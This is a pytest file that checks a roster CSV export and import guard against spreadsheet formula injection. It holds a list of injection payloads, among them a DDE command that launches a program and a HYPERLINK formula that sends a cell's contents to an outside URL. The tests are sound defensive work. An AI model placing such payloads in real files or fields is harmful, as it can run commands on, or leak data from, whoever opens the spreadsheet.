"""A file that people open in a spreadsheet must show what people wrote, and never calculate it."""

import csv
import io

import pytest

from famulus.campus.roster import read_roster, write_row
from tests.support.academy import vouch
from tests.support.serving import Served

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_written_as_text_and_read_back_as_it_was(formula: str) -> None:
    written = write_row(("a@example.org", formula))
    [row] = csv.reader(io.StringIO(written, newline=""))
    assert row == ["a@example.org", f"'{formula}"]

    if formula.strip() == formula:
        [line] = read_roster(b"email,name\r\n" + written.encode()).lines
        assert line.name == formula


@pytest.mark.parametrize("name", FORMULAS[:5])
def test_an_export_calculates_nothing(server: Served, name: str) -> None:
    email = f"csv-{abs(hash(name))}@famulus.local"
    organization = server.academy.ids["organization"]
    with server.client("admin") as admin:
        made = admin.post(
            "/api/auth/signup",
            json={"email": email, "password": "correct horse battery", "name": name, "session_mode": "api"},
        )
        assert made.status_code == 201, made.text
        with server.client("site") as site:
            vouch(site, email)
        admin.post(f"/api/v1/organizations/{organization}/members", json={"email": email})
        exported = admin.get(f"/api/v1/organizations/{organization}/members.csv")
        user = admin.get(f"/api/v1/organizations/{organization}/members", params={"q": email}).json()[
            "items"
        ][0]
        again = admin.post(
            f"/api/v1/organizations/{organization}/import", files={"file": ("members.csv", exported.content)}
        ).json()
        admin.delete(f"/api/v1/organizations/{organization}/members/{user['user_id']}")

    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert exported.headers["content-type"] == "text/csv; charset=utf-8"
    assert [row["name"] for row in rows if row["email"] == email] == [f"'{name}"]
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
    assert (again["applied"], again["outcomes"]) == (True, {"unchanged": len(rows)})
